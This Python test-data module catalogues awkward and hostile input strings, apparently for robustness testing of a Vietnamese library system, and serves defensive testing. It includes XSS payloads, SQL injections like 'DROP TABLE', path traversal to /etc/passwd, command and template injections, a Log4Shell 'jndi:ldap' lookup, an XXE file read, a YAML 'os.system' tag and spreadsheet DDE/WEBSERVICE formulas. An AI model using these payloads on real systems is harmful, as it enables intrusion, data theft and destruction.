"""Texts that software trips over, by what they are: each is something that a person could type or paste."""

# ruff: noqa: E501 - lists of short texts read better in few lines

import unicodedata
from collections.abc import Iterator, Mapping
from itertools import product

LONG = 32_768  # letters: one more than a cell of a workbook can hold
MARK = "daChay"  # the name that a script in one of the texts would give to the window
_RUN = f"window.{MARK}=1"

_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc=\"<script>parent.{MARK}=1</script>\">",
    f"<iframe src=\"javascript:parent.{MARK}=1\">",
    f"<a href=\"javascript:{_RUN}\">bấm</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<form action=\"javascript:{_RUN}\"><button>gửi</button></form>",
    f"<object data=\"javascript:{_RUN}\">",
    f"<embed src=\"javascript:{_RUN}\">",
    f"<link rel=stylesheet href=\"javascript:{_RUN}\">",
    f"<meta http-equiv=refresh content=\"0;javascript:{_RUN}\">",
    f"<template><img src=x onerror={_RUN}></template>",
    "<style>*{display:none}</style>",
    "<base href='//ví-dụ.invalid/'>",
    "<!-- chú thích --!>",
    "<![CDATA[ x ]]>",
    "<plaintext>",
    "<b>đậm</b><i>",
    "</td></tr></table>",
    "</div></details>",
    "<br/><hr>",
)  # fmt: skip
_AROUND = ("{}", "\"'>{}", "</textarea>{}", "</title>{}", "--><!-- -->{}", "&lt;{}")
_ENTITIES = (
    "&lt;script&gt;", "&amp;lt;", "&#60;b&#62;", "&#x3C;", "&nbsp;", "&bogus;", "&", "&&", "&#0;", "&#xD800;", "&copy",
    "a < b > c", "1<2", "<", ">", "<>", "</", "<3", "\"", "'", "`", "\"quoted\"", "d'Artagnan", "“ngoặc” ‘đơn’", "«ngoặc»",
)  # fmt: skip
_SQL = (
    "'; DROP TABLE answer; --", "' OR '1'='1", "\" OR \"\"=\"", "1; DELETE FROM response", "') UNION SELECT * FROM account --",
    "Robert'); DROP TABLE member;--", "%", "_", "\\", "\\'", "' || pg_sleep(5) --", "$1", ":round_id", "?", "%s", "%(name)s",
    "$$ x $$", "E'\\x41'", "/* chú thích */", "-- hết", "0x27", "NULL", "null", "None", "undefined", "NaN", "true", "false",
)  # fmt: skip
_PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "C:\\CON", "\\\\may-chu\\chia-se", "file:///etc/passwd",
    "%2e%2e%2f", "..%00/", "~root", "$HOME", "%APPDATA%", "CON", "NUL", "LPT1", "aux.txt", ".", "..", "a/b\\c", "a:b", "*?|<>",
)  # fmt: skip
_COMMANDS = (
    "$(touch x)", "`touch x`", "| cat", "; ls -la", "&& reboot", "|| true", "> /tmp/x", "${jndi:ldap://x.invalid/a}", "{{7*7}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{0}", "{round}", "{name!r}", "{", "}", "{}", "%d", "%n%n%n", "[object Object]",
    "{\"a\": [1, 2]}", "[]", "- a: b", "!!python/object/apply:os.system ['ls']", "a: &x *x", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "__import__('os')", "__proto__", "constructor", "hasOwnProperty",
    "\\u0041", "\\x41", "\\n", "_x0041_", "_x000D_", "_xD800_", "x_x005F_x", "http://", "https://vi.invalid/?a=1&b=2#c",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "mailto:a@b.vn", "tel:113", "*đậm* _nghiêng_ ~~gạch~~",
    "# Tiêu đề", "> trích", "[liên kết](javascript:alert(1))", "![ảnh](x)", ":material/home:", ":red[đỏ]", "$x^2$", "`mã`",
    "| a | b |", "---", "1. một", "\\(x\\)",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=SUM(A1:A9)", "=HYPERLINK(\"http://x.invalid\",\"bấm\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "-5", "+84",
    "=", "+", "-", "@", "＝1+1", "＋1", "－1", "＠A1", "=WEBSERVICE(\"http://x.invalid\")", "=IMPORTXML(\"x\",\"y\")", "DDE(\"cmd\")",
)  # fmt: skip
_BEFORE_FORMULA = ("", " ", "\t", "\r", "\n", "'", '"', "\ufeff")
_NUMBERS = (
    "0", "-0", "007", "1.234.567", "1.234,5", "1,234.5", "1 234", "1\u00a0234", "１２３", "١٢٣", "1e400", "1E5", "NaN", "Infinity",
    "-Infinity", "0x10", "0b1", "1/2", "½", "12%", "≈ 50", "5 nghìn", "2 triệu", "99999999999999999999", "1_000", "1.", ".5", ",5",
    "--1", "+-1", "1,2,3", "3 → 4", "10^15", "2026-02-30", "31/02/2026", "1/1/1900", "12:60", "MARCH1", "SEPT2", "0,1+0,2",
)  # fmt: skip
_WORDS = (
    "Thư viện", "tỉnh Điện Biên", "Lạng Sơn", "số hóa", "tài liệu quý hiếm", "chuyển đổi số", "giải trình", "bạn đọc", "thẩm định",
    "nguyễn", "Đường", "ưỡn", "ượng", "Ấn phẩm", "ẵm", "ở", "ỹ", "Ỵ", "kiểm kê", "phiếu", "truyền thống", "Yên Bái", "Thái Nguyên",
    "hệ thống", "quyết định", "Ủy ban nhân dân", "ngày ban hành", "trích yếu", "đồng bào", "tiếng Mông", "Hội Gióng", "nước",
    "Cao Bằng", "Tuyên Quang", "Bắc Kạn", "Hòa Bình", "hoà bình", "thuỷ điện", "thủy điện", "quý", "qúy", "ĐỀ ÁN", "Ộ", "Ặ", "ặ",
)  # fmt: skip
_INVISIBLE = (
    "\u00ad", "\u034f", "\u061c", "\u115f", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b",
    "\u202d", "\u202e", "\u202c", "\u2060", "\u2061", "\u2066", "\u2067", "\u2068", "\u2069", "\u206a", "\u3164", "\ufeff", "\uffa0",
    "\ufff9", "\ufffa", "\ufffb", "\ufffc", "\U000e0001", "\U000e0041", "\ufe0f",
)  # fmt: skip
_SPACES = (
    " ", "  ", "\t", "\n", "\r", "\r\n", "\n\n\n", "\v", "\f", "\u0085", "\u00a0", "\u1680", "\u2000", "\u2003", "\u2007", "\u2009",
    "\u202f", "\u205f", "\u2028", "\u2029", "\u3000",
)  # fmt: skip
_SURROGATES = ("\ud800", "\udbff", "\udc00", "\udfff", "\udc80", "\ud83d\ude00", "\ude00\ud83d")
_EMOJI = (
    "😀", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇻🇳", "🇻", "❤️", "❤", "☺︎", "1️⃣", "#️⃣", "👩🏾‍🚀", "🧑‍🤝‍🧑", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "📚📖", "✓", "㊗️", "🀄", "🫱🏻‍🫲🏿", "💩",
)  # fmt: skip
_SCRIPTS = (
    "图书馆", "漢喃 𡨸喃 𤾓", "도서관", "図書館 ﾄｼｮ", "مكتبة", "ספרייה", "पुस्तकालय", "ห้องสมุด", "ຫໍສະໝຸດ", "បណ្ណាល័យ", "စာကြည့်တိုက်", "библиотека",
    "βιβλιοθήκη", "ᏗᎪᏪᎵᎩ", "ꦥꦼꦂꦥꦸꦱ꧀", "བོད་ཡིག", "ไทย123", "עברית abc 123", "العربية (abc) 123", "ﷺ", "﷽", "ǅ", "ß", "ẞ", "İ", "ı", "ſ", "ŉ", "ﬁ", "Å",
    "Å", "Ω", "Ω", "K", "℡", "№", "①", "㎏", "ｆｕｌｌ", "𝕋𝕙𝕠", "ᵗʰ", "ʇɥƃıɹ", "⒯", "🅃", "\U0001f9ff", "\U0010ffff", "\uffff", "\ufffe", "\ue000",
)  # fmt: skip
_STACKED = (
    "e\u0301", "\u0301e", "a\u0323\u0302", "a\u0302\u0323", "a" + "\u0301" * 100, "T̶h̷ư̸", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤", "o\u031b\u0309", "\u0300", "각",
    "각", "क्षि", "ก็็็็็็็", "ị" * 3, "ḍ̇", "ḍ̇",
)  # fmt: skip


def by_category() -> Mapping[str, tuple[str, ...]]:
    """Every text once, in an order that does not change."""
    seen: set[str] = set()
    return {
        name: tuple(text for text in texts if not (text in seen or seen.add(text)))  # type: ignore[func-returns-value]
        for name, texts in _categories()
    }


def all_texts() -> tuple[str, ...]:
    return tuple(text for texts in by_category().values() for text in texts)


def _categories() -> Iterator[tuple[str, list[str]]]:
    yield "HTML and scripts", [around.format(element) for element, around in product(_ELEMENTS, _AROUND)]
    yield "signs of HTML", list(_ENTITIES)
    yield "SQL", list(_SQL)
    yield "paths", list(_PATHS)
    yield "commands and templates", list(_COMMANDS)
    yield "formulas", [before + formula for formula, before in product(_FORMULAS, _BEFORE_FORMULA)]
    yield "numbers and dates", list(_NUMBERS)
    yield "Vietnamese, composed", [unicodedata.normalize("NFC", word) for word in _WORDS]
    yield "Vietnamese, decomposed", [unicodedata.normalize("NFD", word) for word in _WORDS]
    yield "invisible", [text for sign in _INVISIBLE for text in (sign, f"thư{sign}viện")]
    yield "spaces", [text for sign in _SPACES for text in (sign, f"thư{sign}viện", f"{sign}hai đầu{sign}")]
    controls = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
    yield "control characters", [f"trước{sign}sau" for sign in controls]
    yield "halves of a pair", [text for half in _SURROGATES for text in (half, f"a{half}b")]
    yield "emoji", list(_EMOJI)
    yield "scripts of the world", list(_SCRIPTS)
    yield "marks on marks", list(_STACKED)
    yield "long", _long()


def _long() -> list[str]:
    return [
        "a" * LONG,
        "ệ" * LONG,
        unicodedata.normalize("NFD", "ệ") * (LONG // 3),
        "😀" * (LONG // 2),
        "<b>" * (LONG // 3),
        "&" * LONG,
        "\n" * 1000,
        '"' * LONG,
        "một từ " * (LONG // 7),
        "0" * 400,
    ]
